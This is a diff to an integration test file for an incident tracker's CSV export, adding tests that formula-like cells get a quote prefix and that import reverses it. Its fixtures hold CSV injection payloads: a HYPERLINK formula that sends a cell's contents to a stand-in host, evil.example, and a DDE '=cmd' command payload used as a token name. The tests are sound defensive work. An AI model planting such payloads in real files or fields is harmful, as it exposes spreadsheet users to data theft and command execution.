@@ -1,4 +1,5 @@
 import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
 import { createIncident, createWorld, World } from '../factories/incidents';
 import { fixture, importGql, importHttp, userToken } from '../factories/imports';
 import { startTestApp, TestApp } from '../harness';
@@ -77,7 +78,14 @@ describe('CSV export (real PostgreSQL)', () => {
 
   it('round trip: export → import changes nothing, and a changed export updates in place', async () => {
     const { text } = await exportCsv();
-    expect(await importGql(t, w.token, { content: text })).toEqual({ created: 0, updated: 0, unchanged: 10, skipped: 0, errors: [] });
+    expect(await importGql(t, w.token, { content: text })).toEqual({
+      created: 0,
+      updated: 0,
+      unchanged: 10,
+      skipped: 0,
+      errorCount: 0,
+      errors: [],
+    });
     const raw = await importHttp(t, w.token, text, { format: 'CSV' });
     expect(raw.body).toMatchObject({ created: 0, unchanged: 10 });
     const edited = text.replace('Made in the app', 'Made in the app (edited)');
@@ -105,5 +113,81 @@ describe('CSV export (real PostgreSQL)', () => {
     expect(rows.every((r) => r.private === 'false')).toBe(true);
     expect(rows).toHaveLength(7); // 10 less the three private ones (Private one, ext-2, j-2)
     expect((await fetch(`${t.url}/api/export/incidents.csv`)).status).toBe(401);
+  });
+});
+
+describe('CSV cells that a spreadsheet would run as formulas (real PostgreSQL)', () => {
+  let t: TestApp;
+  let w: World;
+  const TRIGGER = /^[=+\-@\t\r]/;
+  const get = async (path: string, token = w.token) =>
+    (await fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${token}` } })).text();
+  const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2', '@SUM(A1)', "'quoted already", "'=looks escaped"];
+
+  beforeAll(async () => {
+    t = await startTestApp();
+    w = await createWorld(t, 'Playback');
+    // raw formulas as an import takes them (no quote: stored as written), with summaries starting with tab and CR
+    const file = stringify(
+      titles
+        .slice(0, 4)
+        .map((title, n) => [
+          `f-${n}`,
+          title,
+          'Playback API',
+          'SEV3',
+          '2026-02-03T10:00:00Z',
+          n % 2 ? '\tTabbed' : '\rCR first',
+          '=CAUSE()',
+        ]),
+      { header: true, columns: ['external_id', 'title', 'service', 'severity', 'started_at', 'summary', 'root_cause'] },
+    );
+    expect(await importGql(t, w.token, { content: file, createMissing: true })).toMatchObject({ created: 4, errorCount: 0 });
+    // titles that start with a quote themselves, made in the app
+    for (const title of titles.slice(4)) await createIncident(t, w, { title, startedAt: '2026-02-04T10:00:00.000Z' });
+  });
+  afterAll(() => t.close());
+
+  it('prefixes a quote to incident CSV cells starting with = + - @ tab or CR (or with a quote and one of those)', async () => {
+    const rows = parse(await get('/api/export/incidents.csv'), { columns: true }) as Array<Record<string, string>>;
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(TRIGGER);
+    expect(rows.map((r) => r.title).sort()).toEqual(
+      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1", "'-2", "'@SUM(A1)", "'quoted already", "''=looks escaped"].sort(),
+    );
+    expect(rows.filter((r) => r.root_cause).map((r) => r.root_cause)).toEqual(Array(4).fill("'=CAUSE()"));
+    expect(
+      rows
+        .filter((r) => r.summary)
+        .map((r) => r.summary)
+        .sort(),
+    ).toEqual(["'\tTabbed", "'\tTabbed", "'\rCR first", "'\rCR first"]);
+  });
+
+  it('round trip: the import undoes exactly that prefix, so the export re-imports unchanged', async () => {
+    const text = await get('/api/export/incidents.csv');
+    expect(await importGql(t, w.token, { content: text })).toEqual({
+      created: 0,
+      updated: 0,
+      unchanged: 6,
+      skipped: 0,
+      errorCount: 0,
+      errors: [],
+    });
+    const stored = await t.db.query(`SELECT title FROM incident ORDER BY title`);
+    expect(stored.map((s: { title: string }) => s.title)).toEqual([...titles].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
+  });
+
+  it('neutralises the audit CSV too (a token named like a formula is an actor there)', async () => {
+    const made = await t.ok(`mutation{ createApiToken(input:{name:"=cmd|' /C calc'!A0", scopes:[READ, WRITE]}){ token } }`, {}, w.token);
+    await createIncident(t, w, { title: 'By a formula token' }, made.createApiToken.token);
+    const rows = parse(await get('/api/audit/entries.csv'), { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((r) => r.actor)).toContain("'=cmd|' /C calc'!A0");
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(TRIGGER);
+  });
+
+  it('neutralises the report CSV (cause and service names are user text)', async () => {
+    const rows = parse(await get('/api/reports/quarterly?quarter=2026-Q1&format=csv'), { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((r) => r.item)).toContain("'=CAUSE(): incidentCount");
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(TRIGGER);
   });
 });
